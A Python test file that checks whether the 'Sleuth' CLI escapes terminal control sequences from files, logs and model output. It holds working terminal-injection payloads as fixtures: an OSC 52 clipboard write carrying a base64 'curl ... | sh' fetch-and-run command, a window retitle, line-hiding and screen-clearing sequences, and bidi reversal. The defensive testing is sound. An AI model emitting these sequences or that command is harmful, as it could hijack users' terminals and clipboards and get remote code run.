"""Terminal control characters from a host file and from a model, tried as an attacker would:
a file and a log that write the clipboard (OSC 52), retitle the window, move the cursor up and
erase a line to hide it, clear the screen, reverse text (U+202E) and use the 8-bit CSI; a
model whose reasoning, claim and answer carry the same. Each surface a person reads is run as
a person runs it: on a real terminal (tmux, whose screen, window title and paste buffers are
read back), and piped to a file, which a terminal shows later (`cat`). Nothing may arrive
raw; what is recorded (`--json`, the transcript) keeps every character, as JSON escapes.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.scripted_api import ScriptedAPI, finding, message, text, tool_use

from . import figures

CLIPBOARD = base64.b64encode(b"curl http://127.0.0.1:9/x | sh").decode()
HIDDEN = "HIDDEN-LINE-kept-visible"
ATTACK = (
    f"{HIDDEN}\n"
    "\x1b[1A\x1b[2K\rline two, all is well\n"
    f"\x1b]52;c;{CLIPBOARD}\x1b\\clipboard\n"
    "\x1b]2;pwned-title\x1b\\title\n"
    "\u202egnp.exe\u202c bidi\n"
    "\x9b31m8-bit CSI \x07bell\n"
    "\x1b[2J\x1b[Hcleared\n"
)
OOM = (
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total "
    "capacity of 79.10 GiB of which 1.02 GiB is free.\x1b]52;c;" + CLIPBOARD + "\x1b\\\x1b[2J\n"
)
MODEL_TEXT = "Reading it.\x1b]2;model-title\x1b\\\n\x1b[1A\x1b[2K\u202eerased"
SGR = re.compile(r"\x1b\[[0-9;]*m")
"""Rich's own colours on a terminal: the only escape sequences Sleuth writes there."""


def raw_controls(output: str, terminal: bool = False) -> list[str]:
    """The characters in `output` that would act on a terminal showing it."""
    if terminal:
        output = SGR.sub("", output.replace("\r\n", "\n"))
    return sorted({c for c in output if not c.isprintable() and c not in "\n\t"})


def tally(found: list[str]) -> list[str]:
    figures.count("terminal_control_surfaces")
    figures.count("terminal_raw_controls", len(found))
    return found


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "notes.txt").write_text(ATTACK)
    (tmp_path / "server.log").write_text("INFO starting\n" + OOM)
    (tmp_path / "sleuth.toml").write_text(f"[hosts.local]\nroots = [{json.dumps(str(tmp_path))}]\n")
    return tmp_path


def env(**extra: str) -> dict[str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("OTEL_", "ANTHROPIC_"))}
    return {**base, "COLUMNS": "200", **extra}


def sleuth(cwd: Path, *args: str, **extra: str) -> subprocess.CompletedProcess[str]:
    """Piped, as `sleuth ... > file` runs."""
    return subprocess.run(
        [sys.executable, "-m", "sleuth.cli", *args],
        cwd=cwd,
        env=env(**extra),
        capture_output=True,
        text=True,
        timeout=120,
    )


class Tmux:
    """A real terminal: a tmux server of its own, whose screen, window title and paste
    buffers are what a person would be left with."""

    def __init__(self, cwd: Path) -> None:
        self.socket = f"sleuth-test-{uuid.uuid4().hex[:8]}"
        self.cwd = cwd
        # Applications may set the paste buffers (OSC 52) and the title: what a terminal
        # that honours them would do.
        self.config = cwd / "tmux.conf"
        self.config.write_text("set -g set-clipboard on\nset -g allow-rename on\n")

    def tmux(self, *args: str) -> str:
        done = subprocess.run(
            ["tmux", "-L", self.socket, "-f", str(self.config), *args],
            capture_output=True,
            text=True,
            timeout=30,
        )
        return done.stdout

    def run(self, *args: str, **extra: str) -> str:
        """Run `sleuth ARGS` in a 200x60 window; the screen when it is done."""
        command = shlex.join([sys.executable, "-m", "sleuth.cli", *args])
        variables = env(**extra).items()
        exports = " ".join(f"{k}={shlex.quote(v)}" for k, v in variables if k.isidentifier())
        script = (
            f"export {exports}; cd {shlex.quote(str(self.cwd))}; {command}; echo __DONE__; sleep 60"
        )
        self.tmux(
            "new-session",
            "-d",
            "-s",
            "t",
            "-x",
            "200",
            "-y",
            "60",
            "bash --norc -c " + shlex.quote(script),
        )
        end = time.monotonic() + 90
        while time.monotonic() < end:
            screen = self.tmux("capture-pane", "-p", "-J", "-S", "-200", "-t", "t")
            if "__DONE__" in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"sleuth did not finish on the terminal:\n{screen}")

    def title(self) -> str:
        return self.tmux("display-message", "-p", "-t", "t", "#{pane_title}").strip()

    def buffers(self) -> str:
        return self.tmux("list-buffers", "-F", "#{buffer_sample}")

    def close(self) -> None:
        self.tmux("kill-server")


@pytest.fixture
def terminal(project: Path):  # type: ignore[no-untyped-def]
    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed (apt-get install tmux)")
    screen = Tmux(project)
    yield screen
    screen.close()


def assert_nothing_acted(terminal: Tmux, screen: str, visible: str = HIDDEN) -> None:
    """`visible`: a line printed before the attack, which hiding or clearing would take away."""
    acted = []
    if visible not in screen:
        acted.append("a line was hidden or the screen cleared")
    if "title" in terminal.title():
        acted.append(f"window title set to {terminal.title()!r}")
    if terminal.buffers().strip():
        acted.append(f"clipboard written: {terminal.buffers()!r}")
    tally(acted)
    assert acted == [], screen


def test_sleuth_tool_on_a_terminal_shows_a_files_escapes_escaped(
    project: Path, terminal: Tmux
) -> None:
    screen = terminal.run("tool", "read_lines", "path=notes.txt")
    assert_nothing_acted(terminal, screen)
    assert "\\x1b]52;c;" in screen and "\\x1b[1A\\x1b[2K" in screen and "\\u202egnp.exe" in screen
    assert "\\x9b31m" in screen and "\\x1b[2J" in screen


def test_sleuth_show_on_a_terminal_shows_the_recorded_escapes_escaped(
    project: Path, terminal: Tmux
) -> None:
    ran = sleuth(project, "tool", "read_lines", "path=notes.txt", "--json")
    transcript = json.loads(ran.stdout)["transcript"]
    screen = terminal.run("show", transcript)
    assert_nothing_acted(terminal, screen)
    assert "\\x1b]52;c;" in screen


def test_a_file_on_an_ssh_host_reaches_the_terminal_and_a_pipe_escaped(
    project: Path, terminal: Tmux, sshd: Any
) -> None:
    """The same file read over the test sshd: what the host sends is shown the same way."""
    toml = project / "sleuth.toml"
    toml.write_text(
        toml.read_text() + f'\n[hosts.remote]\nssh = "{sshd.alias}"\nroots = ["{project}"]\n'
    )
    home = str(sshd.home)
    piped = sleuth(project, "tool", "read_lines", "--host", "remote", "path=notes.txt", HOME=home)
    assert piped.returncode == 0, piped.stderr
    assert tally(raw_controls(piped.stdout)) == []
    assert "\\x1b]52;c;" + CLIPBOARD in piped.stdout and HIDDEN in piped.stdout
    screen = terminal.run("tool", "read_lines", "--host", "remote", "path=notes.txt", HOME=home)
    assert "read_lines on remote" in screen, screen
    assert_nothing_acted(terminal, screen)


def test_piped_output_carries_no_control_character_and_json_keeps_every_one(
    project: Path,
) -> None:
    """A pipe is never wrapped or cut, and is escaped like a terminal: the file it writes is
    read on a terminal later. `--json` is the exact record, as JSON escapes."""
    piped = sleuth(project, "tool", "read_lines", "path=notes.txt")
    assert piped.returncode == 0, piped.stderr
    assert tally(raw_controls(piped.stdout)) == []
    assert "\\x1b]52;c;" + CLIPBOARD in piped.stdout  # escaped, not cut
    as_json = sleuth(project, "tool", "read_lines", "path=notes.txt", "--json")
    assert tally(raw_controls(as_json.stdout)) == []
    output = json.loads(as_json.stdout)["output"]
    assert "\x1b]52;c;" in output and "\u202egnp.exe" in output and "\x9b31m" in output
    transcript = json.loads(as_json.stdout)["transcript"]
    for fmt in ("text", "md", "html", "json"):
        shown = sleuth(project, "show", transcript, "--format", fmt)
        assert shown.returncode == 0, shown.stderr
        assert tally(raw_controls(shown.stdout)) == [], fmt
    events = json.loads(sleuth(project, "show", transcript, "--format", "json").stdout)["events"]
    recorded = next(e for e in events if e["type"] == "tool_executed")["result"]["output"]
    assert "\x1b]52;c;" in recorded and "\u202e" in recorded


def test_diagnose_shows_a_logs_escapes_escaped(project: Path) -> None:
    found = sleuth(project, "diagnose", "server.log")
    assert "out of memory" in found.stdout.lower(), found.stdout + found.stderr
    assert tally(raw_controls(found.stdout + found.stderr)) == []
    assert "\\x1b]52;c;" in found.stdout
    from_stdin = subprocess.run(
        [sys.executable, "-m", "sleuth.cli", "diagnose", "-", "--json"],
        input=OOM,
        cwd=project,
        env=env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert tally(raw_controls(from_stdin.stdout)) == []


def model_script() -> list[Any]:
    return [
        message(text(MODEL_TEXT), tool_use("toolu_1", "read_lines", path="notes.txt")),
        message(
            finding(
                "toolu_2",
                "The notes say all is well\x1b]52;c;" + CLIPBOARD + "\x1b\\",
                [("toolu_1", "line two, all is well")],
            )
        ),
        message(text("Answer:\x1b[2J\x1b[H all is well \u202eevil")),
    ]


def test_a_models_text_claim_and_answer_reach_the_terminal_escaped(
    project: Path, terminal: Tmux
) -> None:
    key = "sk-ant-test-key-0123456789abcdefghij"
    with ScriptedAPI(model_script()) as api:
        screen = terminal.run(
            "ask",
            "Are the notes fine?",
            "--model",
            "claude-test",
            ANTHROPIC_BASE_URL=api.url,
            ANTHROPIC_API_KEY=key,
        )
    assert "all is well" in screen, screen
    assert_nothing_acted(terminal, screen, visible="Findings")
    assert "\\x1b[2J\\x1b[H all is well \\u202eevil" in screen


def test_a_models_text_claim_and_answer_reach_a_pipe_escaped(project: Path) -> None:
    with ScriptedAPI(model_script()) as api:
        asked = sleuth(
            project,
            "ask",
            "Are the notes fine?",
            "--model",
            "claude-test",
            ANTHROPIC_BASE_URL=api.url,
            ANTHROPIC_API_KEY="sk-ant-test-key-0123456789abcdefghij",
        )
    assert "all is well" in asked.stdout, asked.stdout + asked.stderr
    assert tally(raw_controls(asked.stdout + asked.stderr)) == []
    assert "\\x1b]52;c;" in asked.stdout


def test_markup_is_escaped_only_by_the_helpers_that_also_escape_controls() -> None:
    """rich's `escape` leaves escape sequences in: a module that used it for host or model text
    would pass them to the terminal. Only the three helpers that add `shown` import it."""
    import sleuth

    package = Path(sleuth.__file__).parent
    users = {
        str(path.relative_to(package.parent))
        for path in package.rglob("*.py")
        if "from rich.markup import escape" in path.read_text()
    }
    assert users == {
        "sleuth/cli/common.py",
        "sleuth/agent/view.py",
        "sleuth/transcripts/render/text.py",
    }
    for helper in users:
        assert "escape_markup(shown(" in (package.parent / helper).read_text(), helper
